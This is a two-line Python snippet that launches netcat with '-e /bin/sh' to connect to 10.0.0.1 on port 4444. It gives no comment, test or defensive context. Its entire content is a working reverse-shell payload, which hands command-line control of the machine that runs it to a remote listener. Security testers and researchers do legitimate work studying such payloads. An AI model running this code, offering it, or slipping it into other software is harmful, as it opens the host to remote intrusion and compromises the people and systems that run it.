import os
os.spawnlp(os.P_WAIT, "nc", "nc", "-e", "/bin/sh", "10.0.0.1", "4444")
